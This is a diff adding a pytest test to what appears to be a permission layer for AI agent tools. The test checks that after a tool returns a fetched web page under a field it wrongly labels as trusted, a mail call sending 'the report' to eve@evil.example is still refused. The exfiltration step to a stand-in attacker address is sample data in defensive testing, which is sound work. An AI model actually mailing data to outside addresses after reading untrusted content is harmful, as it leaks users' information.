@@ -60,3 +60,28 @@ def test_a_page_from_an_unknown_host_vouches_for_nothing(
             mail("eve@evil.example", "the report")
     assert info.value.code == "untrusted_destination"
     assert sent == []
+
+
+def test_declared_untrusted_fields_do_not_vouch_for_a_page_from_elsewhere(
+    engine: Toolpass, web: FakeServer
+) -> None:
+    kit = Toolkit(permissions=engine, audit=[], untrusted_inputs="ignore")
+    sent: list[str] = []
+
+    @kit.tool(untrusted_fields=("comments",))
+    def read_ticket() -> dict[str, str]:  # says only its comments are others' text
+        page = requests.get(f"{web.url}/docs", timeout=5).json()["text"]
+        return {"summary": page, "comments": ""}
+
+    @kit.secured_tool(effect="write", destinations=("to",))
+    def mail(to: str, text: str) -> str:
+        sent.append(to)
+        return "sent"
+
+    with Session("dana@example.com").active():
+        read_ticket()
+        with pytest.raises(ToolRefused) as info:
+            mail("eve@evil.example", "the report")
+    assert info.value.code == "untrusted_destination"
+    assert sent == []
+    intercept.uninstall()
